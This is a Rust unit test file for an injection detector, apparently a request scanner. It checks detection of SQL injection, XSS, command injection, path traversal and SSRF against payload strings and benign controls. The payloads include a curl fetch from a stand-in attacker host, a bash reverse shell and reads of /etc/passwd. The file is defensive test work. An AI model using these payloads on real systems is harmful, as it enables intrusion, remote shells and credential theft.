//! Unit tests of the injection detector. The libinjection cases pin the behaviour of the
//! young `libinjectionrs` port we rely on: a release that changes them must be looked at.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use super::*;

fn scan(value: &str) -> Vec<InjectionMatch> {
    let mut out = Vec::new();
    InjectionDetector::new().scan_value(value, "query:q", &mut out);
    out
}

fn classes(value: &str) -> Vec<InjectionClass> {
    scan(value).into_iter().map(|m| m.class).collect()
}

fn request(
    target: &str,
    headers: &[(&str, &[u8])],
    body: &[u8],
    content_type: Option<&str>,
) -> Vec<InjectionMatch> {
    let mut out = Vec::new();
    InjectionDetector::new().scan_request(target, headers, body, content_type, &mut out);
    out
}

#[test]
fn rules_compile() {
    assert!(Rules::new().len() > 10);
}

#[test]
fn class_names_match_serde() {
    for class in InjectionClass::ALL {
        let json = serde_json::to_string(&class).unwrap();
        assert_eq!(json, format!("\"{}\"", class.name()));
    }
}

#[test]
fn sqli_positive_with_fingerprint() {
    let found = scan("1' OR '1'='1");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].class, InjectionClass::Sqli);
    assert_eq!(found[0].evidence, "libinjection sqli fingerprint s&sos");
    assert_eq!(found[0].target, None);
    for payload in [
        "admin'--",
        "1 UNION SELECT password FROM users--",
        "1; DROP TABLE users",
        "1 AND SLEEP(5)",
        "-1 UNION ALL SELECT NULL,NULL--",
        "1) AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT 1),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    ] {
        assert!(
            classes(payload).contains(&InjectionClass::Sqli),
            "{payload}"
        );
    }
}

#[test]
fn sqli_negative() {
    for text in [
        "O'Reilly",
        "don't",
        "it's 5 o'clock",
        "select a plan",
        "drop shipping",
        "union station",
        "Rock 'n' roll",
        "I'm 6' 2\" tall",
        "1 or 2 times",
        "the \"best\" one",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn xss_positive_and_negative() {
    for payload in [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "\" onmouseover=\"alert(1)",
        "<svg/onload=confirm`1`>",
        "<iframe src=//evil.example>",
    ] {
        assert!(classes(payload).contains(&InjectionClass::Xss), "{payload}");
    }
    for text in [
        "<3",
        "a<b and c>d",
        "<b>hello</b>",
        "<p>Hello <a href=\"https://example.com\">there</a></p>",
        "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">",
        "**bold** and `code`",
        "Please confirm (yes or no)",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn command_injection_positive_and_negative() {
    for payload in [
        "127.0.0.1; id",
        "x | cat /etc/passwd",
        "a && curl http://evil.example/x.sh",
        "$(whoami)",
        "test`id`",
        "& dir c:\\",
        ";cat${IFS}/etc/passwd",
        "() { :; }; /bin/bash -c 'id'",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "a\nwhoami",
    ] {
        assert!(
            classes(payload).contains(&InjectionClass::CommandInjection),
            "{payload}"
        );
    }
    for text in [
        "Tom & Jerry; cat lovers",
        "AT&T; Verizon",
        "Procter & Gamble",
        "run `ls -la` to list files",
        "Support `Fraction` type in `pydantic-core`",
        "$(document).ready(init)",
        "Eat; sleep well",
        "cats & dogs | more info",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn path_traversal_positive_and_negative() {
    for payload in [
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/hosts",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "../config.php",
        "image.php\0.jpg",
        "php://filter/resource=index.php",
    ] {
        assert!(
            classes(payload).contains(&InjectionClass::PathTraversal),
            "{payload}"
        );
    }
    for text in [
        "report..final.pdf",
        "../images/logo.png",
        "wait... what?",
        "C:\\Users\\alice\\report.docx",
        "/home/alice/projects",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn ssrf_targets() {
    let cases: &[(&str, &str, Option<u16>)] = &[
        (
            "http://169.254.169.254/latest/meta-data/",
            "169.254.169.254",
            Some(80),
        ),
        ("http://2130706433/", "127.0.0.1", Some(80)),
        ("http://0x7f.1:8080/", "127.0.0.1", Some(8080)),
        ("http://0177.0.0.1/", "127.0.0.1", Some(80)),
        ("https://[::1]/", "::1", Some(443)),
        ("http://[::ffff:127.0.0.1]/", "::ffff:127.0.0.1", Some(80)),
        ("http://[fd00:ec2::254]/", "fd00:ec2::254", Some(80)),
        (
            "http://metadata.google.internal/computeMetadata/v1/",
            "metadata.google.internal",
            Some(80),
        ),
        ("http://100.100.100.200/", "100.100.100.200", Some(80)),
        ("gopher://127.0.0.1:6379/_INFO", "127.0.0.1", Some(6379)),
        ("http://evil.example@10.0.0.1/", "10.0.0.1", Some(80)),
        ("10.0.0.1:22", "10.0.0.1", Some(22)),
        ("localhost:6379", "localhost", Some(6379)),
        ("http://10.0.0.1.nip.io/", "10.0.0.1.nip.io", Some(80)),
    ];
    for (url, host, port) in cases {
        let found = scan(url);
        let ssrf = found.iter().find(|m| m.class == InjectionClass::Ssrf);
        let ssrf = ssrf.unwrap_or_else(|| panic!("{url}: {found:?}"));
        assert_eq!(ssrf.target, Some(((*host).to_owned(), *port)), "{url}");
    }
    let file = scan("file:///etc/passwd");
    let ssrf = file
        .iter()
        .find(|m| m.class == InjectionClass::Ssrf)
        .unwrap();
    assert_eq!(
        (ssrf.evidence.as_str(), &ssrf.target),
        ("ssrf scheme-file", &None)
    );
}

#[test]
fn ssrf_negative() {
    for text in [
        "https://www.example.com/products?id=42",
        "http://8.8.8.8/",
        "http://[2001:4860:4860::8888]/",
        "10.0.1",
        "1.2.3.4",
        "2130706433",
        "metadata",
        "see http://localhost for details",
        "12:30:45",
        "john.doe@example.com",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn benign_values_stay_quiet() {
    for text in [
        "john.doe+news@example.co.uk",
        "2024-03-15T10:30:00+02:00",
        "550e8400-e29b-41d4-a716-446655440000",
        "SGVsbG8sIFdvcmxkIQ==",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "50% off everything!",
        "naïve café",
        "東京都渋谷区",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "# Heading\n\n- item one\n- [docs](https://docs.example.com)",
    ] {
        assert!(classes(text).is_empty(), "{text}: {:?}", scan(text));
    }
}

#[test]
fn encodings_are_undone_and_reported() {
    let cases = [
        (
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            InjectionClass::Xss,
            "url",
        ),
        (
            "&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
            InjectionClass::PathTraversal,
            "html",
        ),
        (
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            InjectionClass::Xss,
            "escape",
        ),
        (
            "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
            InjectionClass::Xss,
            "unicode-nfkc",
        ),
        (
            "..%c0%af..%c0%afetc%c0%afpasswd",
            InjectionClass::PathTraversal,
            "utf8-overlong",
        ),
        ("1%27%20OR%20%271%27%3D%271", InjectionClass::Sqli, "url"),
    ];
    for (value, class, encoding) in cases {
        let found = scan(value);
        let hit = found.iter().find(|m| m.class == class);
        let hit = hit.unwrap_or_else(|| panic!("{value}: {found:?}"));
        assert!(
            hit.evidence.contains(&format!("encoding {encoding}"))
                || hit.evidence.contains(encoding),
            "{value}: {}",
            hit.evidence
        );
    }
}

#[test]
fn transport_encoding_is_not_reported() {
    let found = request("/search?q=1%27%20OR%20%271%27%3D%271", &[], b"", None);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].location, "query:q");
    assert_eq!(found[0].evidence, "libinjection sqli fingerprint s&sos");
    // Double encoding is evasion, and says so.
    let found = request(
        "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        &[],
        b"",
        None,
    );
    assert!(
        found
            .iter()
            .any(|m| m.class == InjectionClass::Xss && m.evidence.ends_with("; encoding url"))
    );
}

#[test]
fn locations() {
    let headers: &[(&str, &[u8])] = &[
        ("user-agent", b"() { :; }; /bin/bash -c 'id'"),
        ("authorization", b"Bearer ' OR 1=1--"),
        ("cookie", b"session=abc; pref=<script>alert(1)</script>"),
        ("x-forwarded-for", b"10.0.0.1"),
    ];
    let body = br#"{"user": {"name": "x' OR '1'='1", "a/b": ["ok", "../../etc/passwd"]}, "n": 5}"#;
    let found = request(
        "http://api.example/items/1'%20OR%20'1'%3D'1?next=http://127.0.0.1/&empty=",
        headers,
        body,
        Some("application/json; charset=utf-8"),
    );
    let located: Vec<(InjectionClass, &str)> = found
        .iter()
        .map(|m| (m.class, m.location.as_str()))
        .collect();
    assert!(
        located.contains(&(InjectionClass::Sqli, "path")),
        "{located:?}"
    );
    assert!(
        located.contains(&(InjectionClass::Ssrf, "query:next")),
        "{located:?}"
    );
    assert!(
        located.contains(&(InjectionClass::CommandInjection, "header:user-agent")),
        "{located:?}"
    );
    assert!(
        located.contains(&(InjectionClass::Xss, "header:cookie")),
        "{located:?}"
    );
    assert!(
        located.contains(&(InjectionClass::Sqli, "body/user/name")),
        "{located:?}"
    );
    assert!(
        located.contains(&(InjectionClass::PathTraversal, "body/user/a~1b/1")),
        "{located:?}"
    );
    assert!(
        !located
            .iter()
            .any(|(_, location)| *location == "header:authorization")
    );
    assert!(
        !located
            .iter()
            .any(|(_, location)| *location == "header:x-forwarded-for")
    );
    let form = request(
        "/",
        &[],
        b"name=O%27Reilly&comment=%3Cscript%3Ealert(1)%3C/script%3E",
        Some("application/x-www-form-urlencoded"),
    );
    assert_eq!(form.len(), 1);
    assert_eq!(
        (form[0].class, form[0].location.as_str()),
        (InjectionClass::Xss, "body/comment")
    );
    let text = request("/", &[], b"; cat /etc/passwd", Some("text/plain"));
    assert!(text.iter().all(|m| m.location == "body") && !text.is_empty());
    assert!(
        request(
            "/",
            &[],
            b"\x00\x01<script>alert(1)</script>",
            Some("application/octet-stream")
        )
        .is_empty()
    );
}

#[test]
fn one_match_per_class_and_location() {
    let found = request(
        "/?q=%27%20OR%201%3D1--&q=1%27%20OR%20%271%27%3D%271",
        &[],
        b"",
        None,
    );
    assert_eq!(found.len(), 1);
    let mut out = Vec::new();
    let detector = InjectionDetector::new();
    detector.scan_value("' OR 1=1--", "body", &mut out);
    detector.scan_value("' OR 1=1--", "body", &mut out);
    assert_eq!(out.len(), 1);
}

#[test]
fn bounds_hold() {
    // A huge value: only its first 8 KiB are read, so a payload past them is not seen.
    let mut huge = "a".repeat(MAX_VALUE_BYTES);
    huge.push_str("<script>alert(1)</script>");
    assert!(scan(&huge).is_empty());
    let at_start = format!("<script>alert(1)</script>{}", "é".repeat(100_000));
    assert_eq!(classes(&at_start), vec![InjectionClass::Xss]);
    // Many values: at most 32 matches, and the request budget caps what is read.
    let query: Vec<String> = (0..500)
        .map(|i| format!("p{i}=%27%20OR%201%3D1--"))
        .collect();
    let found = request(&format!("/?{}", query.join("&")), &[], b"", None);
    assert_eq!(found.len(), MAX_MATCHES);
    // Deep JSON: parsed or not, walking it terminates, and nothing past the depth limit is seen.
    let deep = format!(
        "{}\"<script>alert(1)</script>\"{}",
        "[".repeat(100),
        "]".repeat(100)
    );
    let found = request("/", &[], deep.as_bytes(), Some("application/json"));
    assert!(found.iter().all(|m| m.location.len() <= MAX_LOCATION));
    let too_deep = format!("{}\"' OR 1=1--\"{}", "[".repeat(200), "]".repeat(200));
    let _ = request("/", &[], too_deep.as_bytes(), Some("application/json"));
    // Long keys keep locations bounded.
    let body = format!("{{\"{}\": \"' OR 1=1--\"}}", "k".repeat(1000));
    let found = request("/", &[], body.as_bytes(), Some("application/json"));
    assert!(!found.is_empty() && found.iter().all(|m| m.location.len() <= MAX_LOCATION));
}

#[test]
fn decoding_rounds_are_bounded() {
    // Four layers of percent-encoding: three rounds undo three of them only.
    let mut value = "<script>alert(1)</script>".to_owned();
    for _ in 0..4 {
        value = value
            .replace('%', "%25")
            .replace('<', "%3C")
            .replace('>', "%3E");
    }
    assert!(decode::decode(&value).is_some_and(|(text, _)| text.contains('%')));
}

#[test]
fn arbitrary_bytes_never_panic() {
    // A small deterministic fuzz: xorshift bytes over the characters that matter here.
    let alphabet = b"%&#;\\/.'\"<>()`$|{}[]:@xXuU0123456789abcdefABCDEF \n\t\x00+=-";
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let detector = InjectionDetector::new();
    for _ in 0..2000 {
        let len = (state % 64) as usize;
        let mut bytes = Vec::with_capacity(len);
        for _ in 0..len {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let pick = (state % (alphabet.len() as u64 + 8)) as usize;
            bytes.push(
                alphabet
                    .get(pick)
                    .copied()
                    .unwrap_or((state >> 24) as u8 | 0x80),
            );
        }
        let text = String::from_utf8_lossy(&bytes);
        let mut out = Vec::new();
        detector.scan_value(&text, "body", &mut out);
        detector.scan_request(
            &format!("/{text}?a={text}"),
            &[("x-a", &bytes)],
            &bytes,
            None,
            &mut out,
        );
        detector.scan_request("/", &[], &bytes, Some("application/json"), &mut out);
        detector.scan_request(
            "/",
            &[],
            &bytes,
            Some("application/x-www-form-urlencoded"),
            &mut out,
        );
    }
}

#[test]
fn detector_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<InjectionDetector>();
}
